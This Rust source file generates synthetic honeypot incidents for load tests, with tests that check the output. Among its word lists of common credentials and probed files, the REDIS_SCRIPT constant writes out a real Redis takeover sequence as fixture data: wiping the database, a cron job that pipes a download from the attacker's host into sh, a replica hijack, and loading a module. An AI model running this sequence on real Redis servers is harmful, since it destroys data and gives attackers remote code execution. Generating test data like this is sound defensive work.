//! Generated demo incidents in any number, for load tests and benchmarks.
//!
//! Every generated incident is one of the built-in incidents (the templates)
//! given a new identity and a new run of events: key, hash, `updated_id`,
//! times, source address and port, and what the attacker typed or asked for
//! (user names, passwords, paths, files, community strings, repositories,
//! Redis commands) drawn from small word lists. It keeps its template's shape:
//! a key the template lacks (a token's `src_host_reverse`, the MSSQL
//! incident's `events_count`) stays absent. Incident `i` depends on nothing
//! but `i` and the seed, so a console can be filled to any size without
//! holding a second copy, and a test can recompute any incident to check what
//! came out of the pipeline.

use std::sync::OnceLock;

use fastrand::Rng;
use serde_json::{Map, Value, json};

use crate::ecs::logtype;
use crate::flatten::Origin;

/// 2026-01-01 00:00:00 UTC, the start of the first incident's time slot.
const START: i64 = 1_767_225_600;

/// Seconds owned by each incident. Incident `i` starts and ends inside
/// `[START + i * SLOT_SECS, START + (i + 1) * SLOT_SECS)`, so its times rise
/// with its `updated_id` as on a real console. The longest brute force (40
/// events at most 5 s apart, after a start of at most 41 s) fits.
const SLOT_SECS: i64 = 300;

/// `updated_id` of incident `i` is `ID_STRIDE * i + 1` plus a jitter below
/// the stride: strictly increasing, with the small gaps left by updates to
/// other objects on a real console.
const ID_STRIDE: u64 = 3;

/// Events of a brute force, the largest incidents generated.
const BRUTE_FORCE: std::ops::RangeInclusive<usize> = 20..=40;

const USERS: &[&str] = &[
    "root",
    "admin",
    "administrator",
    "ubuntu",
    "pi",
    "oracle",
    "postgres",
    "test",
    "guest",
    "user",
    "support",
    "deploy",
    "backup",
    "jsmith",
    "sa",
    "ftpuser",
    "git",
    "svc-backup",
];

const PASSWORDS: &[&str] = &[
    "123456",
    "password",
    "admin",
    "root",
    "changeme",
    "qwerty",
    "letmein",
    "Winter2026!",
    "P@ssw0rd",
    "12345678",
    "toor",
    "raspberry",
    "welcome1",
    "Summer2026",
    "admin123",
    "1234",
];

const PATHS: &[&str] = &[
    "/",
    "/login",
    "/admin/",
    "/wp-login.php",
    "/webman/login.cgi",
    "/.env",
    "/cgi-bin/luci",
    "/phpmyadmin/",
    "/api/v1/auth",
    "/owa/auth/logon.aspx",
    "/robots.txt",
    "/.git/config",
];

const FILES: &[&str] = &[
    "Payroll/2026-Q4 Salaries.xlsx",
    "HR/Passwords.docx",
    "IT/vpn-config.ovpn",
    "Finance/Budget 2027.xlsx",
    "Backups/db-export.sql",
    "Legal/Contracts/NDA-Acme.pdf",
];

const AGENTS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:145.0) Gecko/20100101 Firefox/145.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) \
     Chrome/142.0.0.0 Safari/537.36",
    "python-requests/2.31.0",
    "curl/8.5.0",
    "Go-http-client/1.1",
];

const PORTS: &[u16] = &[21, 22, 23, 80, 139, 443, 445, 1433, 3306, 3389, 5900, 8080];

/// What a VNC Canary cracks: weak passwords of at most eight characters, all
/// that VNC authentication uses.
const VNC_PASSWORDS: &[&str] =
    &["123456", "password", "admin", "1234", "12345678", "qwerty", "vnc", "111111"];

/// Client machines, as SMB names them: a prefix and a number.
const COMPUTERS: &[&str] =
    &["WKS-HR", "WKS-FIN", "WKS-IT", "WKS-ENG", "LAPTOP-SALES", "DESKTOP-OPS"];

const WINRM_AGENTS: &[&str] = &[
    "Microsoft WinRM Client",
    "Ruby WinRM Client (2.8.3, ruby 3.3.5 (2024-09-03))",
    "Python WinRM client",
];

/// Community strings an SNMP scanner guesses.
const COMMUNITIES: &[&str] =
    &["public", "private", "cisco", "community", "manager", "admin", "snmp", "monitor", "secret"];

/// What SNMP scanners ask for: sysDescr, sysUpTime, sysName, sysLocation,
/// the interface table, Cisco's config-copy table.
const OIDS: &[&str] = &[
    "1.3.6.1.2.1.1.1.0",
    "1.3.6.1.2.1.1.3.0",
    "1.3.6.1.2.1.1.5.0",
    "1.3.6.1.2.1.1.6.0",
    "1.3.6.1.2.1.2.2.1.2",
    "1.3.6.1.4.1.9.9.96.1.1.1.1.2",
];

/// Files asked of a TFTP server: network device configurations, boot files.
const TFTP_FILES: &[&str] = &[
    "startup-config",
    "running-config",
    "network-confg",
    "cisco-confg",
    "router-confg",
    "SEPDefault.cnf.xml",
    "pxelinux.0",
    "pxelinux.cfg/default",
    "/etc/passwd",
];

const REPOS: &[&str] = &[
    "infra/terraform-prod.git",
    "secrets.git",
    "backend/api.git",
    "ops/ansible.git",
    "admin/dotfiles.git",
    "payments-service.git",
];

/// A Redis intrusion in order, command and arguments: look, wipe, plant a
/// cron job, or make the server a replica of the attacker's. `{src}` is the
/// source's address, `{host}` the same in a URL.
const REDIS_SCRIPT: &[(&str, &str)] = &[
    ("INFO", ""),
    ("FLUSHALL", ""),
    ("SET", "x \"\\n*/2 * * * * curl -fsSL http://{host}/b.sh | sh\\n\""),
    ("CONFIG", "SET dir /var/spool/cron/"),
    ("CONFIG", "SET dbfilename root"),
    ("SAVE", ""),
    ("SLAVEOF", "{src} 8886"),
    ("MODULE", "LOAD /tmp/exp.so"),
    ("SLAVEOF", "NO ONE"),
];

const HOST_WORDS: &[&str] = &["scan", "host", "client", "vps", "dsl", "probe"];

const DOMAINS: &[&str] = &["example.net", "example.org", "example.com"];

/// The documentation networks (RFC 5737) that generated IPv4 sources use.
const NETWORKS: &[&str] = &["192.0.2", "198.51.100", "203.0.113"];

/// `count` generated incidents in ascending `updated_id` order, the same for
/// the same seed.
pub fn incidents(count: usize, seed: u64) -> Vec<Value> {
    (0..count).map(|index| incident(index, seed)).collect()
}

/// The generated incident number `index` (from 0) of the set made with
/// `seed`, computed on its own.
pub fn incident(index: usize, seed: u64) -> Value {
    // Each incident draws from its own stream so that it needs none of the
    // ones before it.
    let mut rng = Rng::with_seed(mix(seed ^ mix(index as u64)));
    let template = pick_template(&mut rng);
    let created = START + index as i64 * SLOT_SECS + rng.i64(0..40);
    let actor = Actor::new(template, &mut rng);

    let prototypes = template.incident["description"]["events"].as_array();
    let prototypes = prototypes.map_or(&[][..], Vec::as_slice);
    let count = event_count(template, prototypes, &mut rng);
    let mut time = created + rng.i64(0..3);
    let mut events = Vec::with_capacity(count);
    let mut times = Vec::with_capacity(count);
    for nth in 0..count {
        let mut event = prototypes[rng.usize(0..prototypes.len())].clone();
        vary_event(&mut event, &template.logtype, nth, time, &actor, &mut rng);
        events.push(event);
        times.push(time);
        time += rng.i64(1..=5);
    }

    let updated = times.last().map_or(created, |last| last + rng.i64(0..=15));
    // The low half is a bijection of the index: unique within a seed without
    // keeping track of the ones given.
    let hash = format!("{:016x}{:016x}", rng.u64(..), mix(index as u64 ^ seed.rotate_left(32)));
    let jitter = if index == 0 { 0 } else { rng.u64(0..ID_STRIDE) };
    let updated_id = ID_STRIDE * index as u64 + 1 + jitter;

    let mut incident = template.incident.clone();
    if let Some(description) = incident["description"].as_object_mut() {
        describe(description, created, &actor, events, &times, &mut rng);
    }
    let source = if actor.address.is_empty() { "" } else { &actor.address };
    let top = incident.as_object_mut().expect("the built-in incidents are objects");
    top.insert("id".into(), json!(format!("incident:{}:{hash}:{source}:{created}", template.kind)));
    top.insert("hash_id".into(), json!(hash));
    top.insert("updated_id".into(), json!(updated_id));
    top.insert("updated".into(), json!(http_time(updated)));
    top.insert("updated_std".into(), json!(std_time(updated)));
    top.insert("updated_time".into(), json!(updated.to_string()));
    incident
}

/// A built-in incident and how often incidents of its kind come up.
struct Template {
    incident: Value,
    /// The kind part of its key, e.g. `sshlogin`.
    kind: String,
    /// `description.logtype`, e.g. `4002`.
    logtype: String,
    /// A login attempt, by the mapping's logtype table: some are brute forces.
    login: bool,
    weight: u32,
}

fn templates() -> &'static [Template] {
    static TEMPLATES: OnceLock<Vec<Template>> = OnceLock::new();
    TEMPLATES.get_or_init(|| {
        let all = super::builtin_incidents();
        all.into_iter()
            .map(|incident| {
                let key = incident["id"].as_str().unwrap_or_default();
                let kind = key.split(':').nth(1).unwrap_or("incident").to_owned();
                let logtype = incident["description"]["logtype"].as_str().unwrap_or_default();
                let login = logtype
                    .parse()
                    .ok()
                    .and_then(|code| logtype::lookup(Origin::Console, code))
                    .is_some_and(|info| info.login);
                let logtype = logtype.to_owned();
                Template { weight: weight(&logtype), kind, logtype, login, incident }
            })
            .collect()
    })
}

/// Relative frequency per template, by logtype rather than key kind, since
/// every token kind shares the kind `canarytoken`: login attempts and scans
/// dominate a busy console, a disconnected Canary is rare. SSH has two
/// templates (password and key), each weighed in full.
fn weight(logtype: &str) -> u32 {
    match logtype {
        "4002" => 10,
        "3000" | "3001" | "6001" => 8,
        "2000" | "5000" | "5003" | "5007" | "14004" => 6,
        "8001" | "9001" | "12001" => 5,
        // SIP, SNMP and Redis scanners sweep the internet.
        "13001" | "15001" | "21001" | "31001" => 4,
        "1004" | "11001" | "28002" | "29001" | "16000" | "17000" | "17012" => 3,
        "10001" | "19001" | "16006" => 2,
        "17003" | "17020" => 1,
        _ => 5,
    }
}

fn pick_template(rng: &mut Rng) -> &'static Template {
    let all = templates();
    let total: u32 = all.iter().map(|t| t.weight).sum();
    let mut roll = rng.u32(0..total);
    for template in all {
        if roll < template.weight {
            return template;
        }
        roll -= template.weight;
    }
    unreachable!("the roll is below the sum of the weights")
}

/// How many events an incident of this kind gets.
fn event_count(template: &Template, prototypes: &[Value], rng: &mut Rng) -> usize {
    // Events without a timestamp differ by content alone: copies of one would
    // be the same event, which the source rightly writes once.
    let timed = prototypes.iter().all(|e| e.get("timestamp").is_some());
    if prototypes.is_empty() || !timed {
        return prototypes.len().min(1);
    }
    match template.logtype.as_str() {
        // A host port scan lists every port in its one event.
        "5003" => 1,
        _ if template.kind == "canarytoken" => rng.usize(1..=3),
        _ if template.login && rng.u8(0..100) < 12 => rng.usize(BRUTE_FORCE),
        _ => rng.usize(1..=8),
    }
}

/// Who is behind one incident: what stays the same across its events.
struct Actor {
    /// Empty for incidents without a source, like a disconnected Canary.
    address: String,
    /// The source port, for incidents that have one.
    port: u16,
    user: &'static str,
    /// The client machine's name.
    computer: String,
    file: &'static str,
    agent: &'static str,
}

impl Actor {
    fn new(template: &Template, rng: &mut Rng) -> Actor {
        let sourceless = template.incident["description"]["src_host"] == "";
        let agents = if template.logtype == "29001" { WINRM_AGENTS } else { AGENTS };
        Actor {
            address: if sourceless { String::new() } else { address(rng) },
            port: rng.u16(1024..=65_535),
            user: pick(rng, USERS),
            computer: format!("{}-{:04}", pick(rng, COMPUTERS), rng.u16(1..=9999)),
            file: pick(rng, FILES),
            agent: pick(rng, agents),
        }
    }

    /// The address as a URL or SIP URI writes it: IPv6 in brackets.
    fn host(&self) -> String {
        if self.address.contains(':') {
            format!("[{}]", self.address)
        } else {
            self.address.clone()
        }
    }
}

/// A source address in the documentation ranges, one in ten IPv6.
fn address(rng: &mut Rng) -> String {
    if rng.u8(0..10) == 0 {
        return format!("2001:db8:{:x}::{:x}", rng.u16(1..=0xff), rng.u16(1..=0xffff));
    }
    format!("{}.{}", pick(rng, NETWORKS), rng.u8(1..=254))
}

/// Rewrites what one event of a `logtype` incident says; keys the prototype
/// lacks stay absent.
fn vary_event(
    event: &mut Value,
    logtype: &str,
    nth: usize,
    time: i64,
    actor: &Actor,
    rng: &mut Rng,
) {
    let tftp = logtype == "10001";
    let vnc = logtype == "12001";
    let Some(fields) = event.as_object_mut() else { return };
    for (key, value) in fields.iter_mut() {
        *value = match key.as_str() {
            "timestamp" => json!(time),
            "timestamp_std" => json!(std_time(time)),
            // A brute force tries a new pair each time (MongoDB's keys are
            // lower case).
            "USERNAME" | "user" => json!(pick(rng, USERS)),
            "PASSWORD" if vnc => json!(pick(rng, VNC_PASSWORDS)),
            "PASSWORD" | "password" => json!(pick(rng, PASSWORDS)),
            // A VNC challenge and its response are new at every attempt.
            "SERVER_CHALLENGE" | "CLIENT_RESPONSE" => json!(hex(rng, 16)),
            "COMMUNITY_STRING" => json!(pick(rng, COMMUNITIES)),
            "REQUESTS" => json!(oids(rng)),
            "PATH" => json!(pick(rng, PATHS)),
            "DN" => json!(format!("CN={},OU=Users,DC=corp,DC=example,DC=com", pick(rng, USERS))),
            "USER" | "windows_desktopini_access_username" => json!(actor.user),
            "REMOTENAME" | "windows_desktopini_access_computer_name" => json!(actor.computer),
            // A TFTP scanner tries one file after another; an SMB reader
            // reads on in one.
            "FILENAME" if tftp => json!(pick(rng, TFTP_FILES)),
            "FILENAME" => json!(actor.file),
            "OPCODE" => json!(if rng.u8(0..8) == 0 { "WRITE" } else { "READ" }),
            "MODE" if tftp => json!(if rng.u8(0..4) == 0 { "netascii" } else { "octet" }),
            "REPO" => json!(pick(rng, REPOS)),
            // Redis commands follow the script, so an incident reads as one
            // intrusion.
            "CMD" => json!(REDIS_SCRIPT[nth % REDIS_SCRIPT.len()].0),
            "ARGS" => {
                let args = REDIS_SCRIPT[nth % REDIS_SCRIPT.len()].1;
                json!(args.replace("{host}", &actor.host()).replace("{src}", &actor.address))
            }
            "USERAGENT" => json!(actor.agent),
            "OFFSET" => json!(nth * 32_768),
            "ports" => json!(ports(rng)),
            "src_host" => json!(actor.address),
            "geoip" => {
                locate(value, time, actor, rng);
                continue;
            }
            "HEADERS" if logtype == "15001" => {
                sip_headers(value, actor, rng);
                continue;
            }
            _ => continue,
        };
    }
}

/// Points the SIP headers that name the caller at the actor, with a new call.
fn sip_headers(headers: &mut Value, actor: &Actor, rng: &mut Rng) {
    let Some(headers) = headers.as_object_mut() else { return };
    let (host, port) = (actor.host(), actor.port);
    for (name, value) in headers.iter_mut() {
        let header = match name.as_str() {
            "via" => format!("SIP/2.0/UDP {host}:{port};branch=z9hG4bK-{};rport", rng.u32(..)),
            "contact" => format!("<sip:100@{host}:{port}>"),
            "from" => format!("\"sipvicious\"<sip:100@{host}>;tag={}", hex(rng, 12)),
            "call-id" => format!("{}@{host}", rng.u32(..)),
            _ => continue,
        };
        // Each SIP header is a list of its values.
        *value = json!([header]);
    }
}

/// Points the geoip block at the actor's address and moves its local clock
/// to the event's time; the place itself stays the template's.
fn locate(geoip: &mut Value, time: i64, actor: &Actor, rng: &mut Rng) {
    let Some(geoip) = geoip.as_object_mut() else { return };
    geoip.insert("ip".into(), json!(actor.address));
    geoip.insert("is_v6".into(), json!(actor.address.contains(':')));
    let Some(zone) = geoip.get_mut("timezone").and_then(Value::as_object_mut) else { return };
    let offset = zone.get("offset").and_then(Value::as_str).and_then(offset_secs).unwrap_or(0);
    let local = time + offset;
    zone.insert("date".into(), json!(format_time(local, "%Y-%m-%d")));
    let micros = rng.u32(0..1_000_000);
    zone.insert("time".into(), json!(format!("{}.{micros:06}", format_time(local, "%H:%M:%S"))));
}

/// Seconds east of UTC in a `+01:00` or `-05:00` offset.
fn offset_secs(offset: &str) -> Option<i64> {
    let (sign, rest) = match offset.split_at_checked(1)? {
        ("+", rest) => (1, rest),
        ("-", rest) => (-1, rest),
        _ => return None,
    };
    let (hours, minutes) = rest.split_once(':')?;
    Some(sign * (hours.parse::<i64>().ok()? * 3600 + minutes.parse::<i64>().ok()? * 60))
}

/// The description keys that change with the incident's identity and events.
fn describe(
    description: &mut Map<String, Value>,
    created: i64,
    actor: &Actor,
    events: Vec<Value>,
    times: &[i64],
    rng: &mut Rng,
) {
    let token = description.get("local_time").and_then(Value::as_str).is_some_and(|t| {
        // Tokens report the console's time; a Canary its own clock, a little behind.
        t.ends_with("(UTC)")
    });
    let local_time = if token {
        format!("{} (UTC)", format_time(created, "%Y-%m-%d %H:%M:%S"))
    } else {
        format_time(created - rng.i64(0..10), "%Y-%m-%d %H:%M:%S")
    };
    let events_list = if times.is_empty() { created.to_string() } else { join(times) };
    let acknowledged = if rng.u8(0..10) == 0 { "True" } else { "False" };
    let has_port = description.get("src_port").is_some_and(|port| *port != "0");

    let mut set = |key: &str, value: Value| {
        if let Some(slot) = description.get_mut(key) {
            *slot = value;
        }
    };
    set("created", json!(created.to_string()));
    set("created_std", json!(std_time(created)));
    set("local_time", json!(local_time));
    set("acknowledged", json!(acknowledged));
    set("src_host", json!(actor.address));
    set("src_host_reverse", json!(reverse_name(&actor.address, rng)));
    if has_port {
        set("src_port", json!(actor.port.to_string()));
    }
    set("events_count", json!(events.len().to_string()));
    if !events.is_empty() {
        set("events_list", json!(events_list));
    }
    set("events", Value::Array(events));
}

/// A reverse DNS name for most sources, none for some.
fn reverse_name(address: &str, rng: &mut Rng) -> String {
    if address.is_empty() || rng.u8(0..10) < 3 {
        return String::new();
    }
    let last = address.rsplit(['.', ':']).next().unwrap_or_default();
    let word = if address.contains(':') { "v6" } else { pick(rng, HOST_WORDS) };
    format!("{word}-{last}.{}", pick(rng, DOMAINS))
}

/// One to three different OIDs, as one SNMP request asks for them.
fn oids(rng: &mut Rng) -> Vec<&'static str> {
    let first = rng.usize(0..OIDS.len());
    (first..first + rng.usize(1..=3)).map(|at| OIDS[at % OIDS.len()]).collect()
}

/// `bytes` random bytes in lower case hex.
fn hex(rng: &mut Rng, bytes: usize) -> String {
    (0..bytes).map(|_| format!("{:02x}", rng.u8(..))).collect()
}

/// A few well-known ports in ascending order, as a host port scan lists them.
fn ports(rng: &mut Rng) -> String {
    let mut chosen: Vec<u16> = PORTS.iter().copied().filter(|_| rng.u8(0..3) == 0).collect();
    if chosen.is_empty() {
        chosen.push(pick(rng, PORTS));
    }
    chosen.iter().map(u16::to_string).collect::<Vec<_>>().join(",")
}

fn join(times: &[i64]) -> String {
    times.iter().map(i64::to_string).collect::<Vec<_>>().join(",")
}

fn pick<T: Copy>(rng: &mut Rng, items: &[T]) -> T {
    items[rng.usize(0..items.len())]
}

/// `2026-11-02 08:14:05 UTC+0000`, the console's `*_std` form.
fn std_time(epoch: i64) -> String {
    format_time(epoch, "%Y-%m-%d %H:%M:%S UTC+0000")
}

/// `Mon, 02 Nov 2026 08:14:46 GMT`, the form of `updated`.
fn http_time(epoch: i64) -> String {
    format_time(epoch, "%a, %d %b %Y %H:%M:%S GMT")
}

fn format_time(epoch: i64, format: &str) -> String {
    let time = jiff::Timestamp::from_second(epoch).expect("generated times are in range");
    time.strftime(format).to_string()
}

/// The SplitMix64 finaliser. It is a bijection on `u64`, which makes the hash
/// suffix unique per index, and it spreads neighbouring indexes into
/// unrelated PRNG seeds.
fn mix(mut z: u64) -> u64 {
    z = z.wrapping_add(0x9e37_79b9_7f4a_7c15);
    z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    z ^ (z >> 31)
}

#[cfg(test)]
mod tests {
    use std::collections::HashSet;

    use super::*;

    fn events(incident: &Value) -> &[Value] {
        incident["description"]["events"].as_array().map_or(&[][..], Vec::as_slice)
    }

    #[test]
    fn the_same_seed_gives_the_same_incidents() {
        let first = incidents(300, 7);
        assert_eq!(first, incidents(300, 7));
        assert_ne!(first, incidents(300, 8));
        for index in [0, 1, 150, 299] {
            assert_eq!(incident(index, 7), first[index], "incident {index} alone");
        }
    }

    #[test]
    fn keys_and_hashes_are_unique_and_updated_ids_ascend_from_1() {
        let all = incidents(10_000, 1);
        let ids: HashSet<&str> = all.iter().map(|i| i["id"].as_str().unwrap()).collect();
        let hashes: HashSet<&str> = all.iter().map(|i| i["hash_id"].as_str().unwrap()).collect();
        assert_eq!(ids.len(), all.len());
        assert_eq!(hashes.len(), all.len());

        let updated: Vec<u64> = all.iter().map(|i| i["updated_id"].as_u64().unwrap()).collect();
        assert_eq!(updated[0], 1);
        for pair in updated.windows(2) {
            let gap = pair[1] - pair[0];
            assert!((1..2 * ID_STRIDE).contains(&gap), "{pair:?}");
        }
        let times: Vec<i64> =
            all.iter().map(|i| i["updated_time"].as_str().unwrap().parse().unwrap()).collect();
        assert!(times.windows(2).all(|pair| pair[0] < pair[1]), "times follow updated_id");
    }

    #[test]
    fn ten_thousand_incidents_average_at_least_three_events() {
        let all = incidents(10_000, 1);
        let total: usize = all.iter().map(|i| events(i).len()).sum();
        assert!(total >= 30_000, "{total} events");
        assert!(all.iter().any(|i| events(i).len() >= 20), "some brute forces");
        assert!(all.iter().any(|i| events(i).is_empty()), "some incidents without events");
    }

    #[test]
    fn each_incident_is_consistent_with_itself() {
        for incident in incidents(2_000, 3) {
            let description = &incident["description"];
            let events = events(&incident);
            let created = description["created"].as_str().unwrap();
            let hash = incident["hash_id"].as_str().unwrap();
            let source = description["src_host"].as_str().unwrap();
            let key = incident["id"].as_str().unwrap();
            assert!(key.ends_with(&format!(":{hash}:{source}:{created}")), "{key}");
            assert!(hash.len() == 32 && hash.bytes().all(|b| b.is_ascii_hexdigit()));
            assert!(
                ["192.0.2.", "198.51.100.", "203.0.113.", "2001:db8:"]
                    .iter()
                    .any(|net| source.starts_with(net))
                    || (source.is_empty() && key.starts_with("incident:devicedied:")),
                "{source}"
            );

            if let Some(count) = description.get("events_count") {
                assert_eq!(count, &json!(events.len().to_string()), "{key}");
            }
            let stamps: Vec<i64> = events.iter().filter_map(|e| e["timestamp"].as_i64()).collect();
            assert!(stamps.windows(2).all(|pair| pair[0] < pair[1]), "{key}");
            if !stamps.is_empty() {
                assert_eq!(description["events_list"], json!(join(&stamps)), "{key}");
                assert_eq!(events[0]["timestamp_std"], json!(std_time(stamps[0])));
            }
        }
    }

    #[test]
    fn offsets_read_both_signs() {
        assert_eq!(offset_secs("+01:00"), Some(3600));
        assert_eq!(offset_secs("-05:30"), Some(-19_800));
        assert_eq!(offset_secs("UTC"), None);
    }

    /// Each kind of key with each logtype: the token kinds share a key kind.
    #[test]
    fn every_template_is_used() {
        let used: HashSet<(String, String)> = incidents(2_000, 5)
            .iter()
            .map(|i| {
                let kind = i["id"].as_str().unwrap().split(':').nth(1).unwrap();
                (kind.to_owned(), i["description"]["logtype"].as_str().unwrap().to_owned())
            })
            .collect();
        let all: HashSet<(String, String)> =
            templates().iter().map(|t| (t.kind.clone(), t.logtype.clone())).collect();
        assert_eq!(used, all);
    }

    /// SIP headers name the source, Redis commands follow the script, VNC
    /// challenges are new at each attempt, TFTP asks for device files.
    #[test]
    fn services_vary_as_their_attackers_do() {
        let mut seen = HashSet::new();
        for incident in incidents(3_000, 9) {
            let description = &incident["description"];
            let logtype = description["logtype"].as_str().unwrap();
            let source = description["src_host"].as_str().unwrap();
            let events = events(&incident);
            match logtype {
                "15001" => {
                    let via = events[0]["HEADERS"]["via"][0].as_str().unwrap();
                    let port = description["src_port"].as_str().unwrap();
                    assert!(via.contains(source) && via.contains(&format!(":{port};")), "{via}");
                }
                "21001" => {
                    for (nth, event) in events.iter().enumerate() {
                        assert_eq!(event["CMD"], REDIS_SCRIPT[nth % REDIS_SCRIPT.len()].0);
                        assert!(!event["ARGS"].as_str().unwrap().contains('{'));
                    }
                }
                "12001" => {
                    let challenges: HashSet<&str> =
                        events.iter().map(|e| e["SERVER_CHALLENGE"].as_str().unwrap()).collect();
                    assert_eq!(challenges.len(), events.len());
                    let mut cracked = events.iter().filter_map(|e| e["PASSWORD"].as_str());
                    assert!(cracked.all(|p| p.len() <= 8));
                }
                "10001" => {
                    let mut files = events.iter().map(|e| e["FILENAME"].as_str().unwrap());
                    assert!(files.all(|f| TFTP_FILES.contains(&f)));
                }
                _ => continue,
            }
            seen.insert(logtype.to_owned());
        }
        assert_eq!(seen.len(), 4, "{seen:?}");
    }

    /// The mix the generator draws from: every common Canary service, the
    /// scans, a disconnected Canary, tokens of both channels.
    #[test]
    fn the_templates_cover_the_common_services() {
        let logtypes: HashSet<&str> = templates().iter().map(|t| t.logtype.as_str()).collect();
        let common = [
            "1004", "2000", "3000", "3001", "4002", "5000", "5003", "5007", "6001", "8001", "9001",
            "10001", "11001", "12001", "13001", "14004", "15001", "19001", "21001", "28002",
            "29001", "31001",
        ];
        for logtype in common {
            assert!(logtypes.contains(logtype), "no {logtype} template");
        }
        let tokens = templates().iter().filter(|t| t.kind == "canarytoken");
        let channels: HashSet<&str> = tokens.map(|t| &t.logtype[..2]).collect();
        assert_eq!(channels, HashSet::from(["16", "17"]));
        assert!(templates().iter().filter(|t| t.kind == "canarytoken").count() >= 6);
    }

    #[test]
    fn logins_are_known_from_the_logtype_table() {
        let login =
            |logtype: &str| templates().iter().find(|t| t.logtype == logtype).unwrap().login;
        assert!(login("4002") && login("3001") && login("31001"));
        assert!(!login("5003") && !login("3000") && !login("17000"));
    }
}
